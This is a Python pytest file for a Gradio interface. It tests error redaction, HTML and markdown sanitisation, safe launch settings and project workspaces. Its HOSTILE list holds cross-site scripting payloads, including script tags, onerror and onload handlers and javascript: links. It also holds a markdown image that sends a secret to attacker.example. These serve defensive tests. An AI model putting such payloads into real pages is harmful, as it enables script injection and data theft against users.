"""The error boundary, the safe rendering and the launch options, without a browser."""

from __future__ import annotations

import html
import re
from collections.abc import Iterator
from pathlib import Path

import gradio as gr
import pytest

from persona.config import Settings
from persona.errors import DocumentError, NotFoundError
from persona.llm import LlamaCppChatModel, make_chat_model
from persona.services import Services
from segments.errors import FileTooLargeError
from ui import build_app, launch_options
from ui.app import CONTENT_SECURITY_POLICY, QUEUE_MAX_SIZE, queue_concurrency
from ui.common import GENERIC_MESSAGE, Workspace, boundary, html_text, md_text, redact_paths

HOSTILE = [
    "<script>window.__pwned = 1</script>",
    '<img src=x onerror="window.__pwned = 1">',
    "![exfil](https://attacker.example/collect?q=secret)",
    "[click me](javascript:alert(1))",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src='https://attacker.example'></iframe>",
    "Visit https://attacker.example/x or www.attacker.example now",
    "<svg onload=alert(1)>",
]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("/tmp/gradio/ab12/customers.csv: empty table.", "customers.csv: empty table."),
        ("The workspace database /home/me/ws/persona.sqlite3 cannot be opened", "persona.sqlite3"),
        (r"C:\Users\me\data\customers.xlsx: bad sheet", "customers.xlsx: bad sheet"),
        (
            "segment 2/3 and/or http://127.0.0.1:8000/v1 stay",
            "segment 2/3 and/or http://127.0.0.1:8000/v1 stay",
        ),
    ],
)
def test_redact_paths_keeps_only_file_names(text: str, expected: str) -> None:
    redacted = redact_paths(text)
    assert expected in redacted
    assert "/tmp/" not in redacted and "/home/" not in redacted and "Users" not in redacted


def test_boundary_shows_product_errors_without_paths_and_escaped() -> None:
    @boundary
    def add(path: str) -> None:
        raise DocumentError(Path("/tmp/gradio/x1/<b>report</b>.pdf"), "the file is empty.")

    with pytest.raises(gr.Error) as caught:
        add("ignored")
    message = str(caught.value.message)
    assert "/tmp/gradio" not in message
    assert "&lt;b&gt;report&lt;/b&gt;.pdf: the file is empty." in message


def test_boundary_passes_segments_errors_through() -> None:
    @boundary
    def load() -> None:
        raise FileTooLargeError("the file is larger than 1 MB.", source="/srv/up/big.csv")

    with pytest.raises(gr.Error) as caught:
        load()
    assert "/srv/up" not in str(caught.value.message)
    assert "larger than 1 MB" in str(caught.value.message)


def test_boundary_hides_unexpected_errors(caplog: pytest.LogCaptureFixture) -> None:
    @boundary
    def crash() -> None:
        raise KeyError("/var/secret/path")

    with pytest.raises(gr.Error) as caught:
        crash()
    assert caught.value.message == GENERIC_MESSAGE
    assert "Traceback" in caplog.text or "KeyError" in caplog.text  # logged on the server


def test_boundary_wraps_generators_and_keeps_signature() -> None:
    @boundary
    def stream(question: str, progress: gr.Progress = gr.Progress()) -> Iterator[str]:
        yield "partial"
        raise NotFoundError("persona", 7)

    import inspect

    assert inspect.isgeneratorfunction(stream)
    assert "progress" in inspect.signature(stream).parameters
    out = stream("q")
    assert next(out) == "partial"
    with pytest.raises(gr.Error) as caught:
        next(out)
    assert "No persona 7" in str(caught.value.message)


def test_boundary_lets_gradio_errors_through() -> None:
    @boundary
    def refuse() -> None:
        raise gr.Error("Upload a table first.")

    with pytest.raises(gr.Error, match=r"Upload a table first\."):
        refuse()


@pytest.mark.parametrize("text", HOSTILE)
def test_md_text_leaves_no_markup_or_links(text: str) -> None:
    safe = md_text(text)
    assert "<" not in safe.replace("\\<", "")
    assert not re.search(r"(?<!\\)!\[", safe)
    assert not re.search(r"(?<!\\)\]\(", safe)
    assert "https://" not in safe and "javascript:" not in safe and "www." not in safe


@pytest.mark.parametrize("text", HOSTILE)
def test_html_text_escapes_everything(text: str) -> None:
    safe = html_text(text)
    assert "<" not in safe and ">" not in safe
    assert "https://" not in safe and "javascript:" not in safe
    assert html.unescape(safe).count("<") == text.count("<")


def test_launch_options_are_safe_by_default(tmp_path: Path) -> None:
    settings = Settings(home=tmp_path / "ws", max_upload_mb=5, ui_auth=("ana", "s3cret"))
    options = launch_options(settings)
    assert options["server_name"] == "127.0.0.1"
    assert options["share"] is False
    assert options["max_file_size"] == 5 * 1024 * 1024
    assert options["auth"] == ("ana", "s3cret")
    assert options["show_error"] is False
    assert options["blocked_paths"] == [str(tmp_path / "ws")]
    assert options["run_history"] is False
    assert "img-src 'self' data: blob:" in CONTENT_SECURITY_POLICY
    assert "connect-src 'self'" in CONTENT_SECURITY_POLICY
    assert QUEUE_MAX_SIZE > 0
    embedded = LlamaCppChatModel(model_path="smollm2.gguf")  # not loaded
    remote = make_chat_model(
        settings.with_(llm_provider="openai", llm_base_url="http://127.0.0.1:9/v1")
    )
    assert queue_concurrency(embedded, settings.with_(llm_concurrency=3)) == 1
    assert queue_concurrency(remote, settings.with_(llm_concurrency=3)) == 3


def test_workspace_gives_each_project_its_services(settings: Settings) -> None:
    ws = Workspace(Services(settings))
    other = ws.services("research-2027")
    assert other.settings.project == "research-2027"
    assert ws.services("research-2027") is other
    assert ws.services("") is ws.base
    assert other.chat_model() is ws.base.chat_model()
    other.project_id  # noqa: B018 - creates the project
    assert ws.projects() == ["default", "research-2027"]
    with pytest.raises(gr.Error):
        ws.services("../etc")


def test_build_app_makes_every_screen(settings: Settings) -> None:
    app = build_app(Services(settings))
    try:
        labels = {getattr(block, "label", None) for block in app.blocks.values()}
        for tab in ("1 · Data & segments", "2 · Documents", "3 · Personas", "4 · Interview"):
            assert tab in labels
    finally:
        app.close()
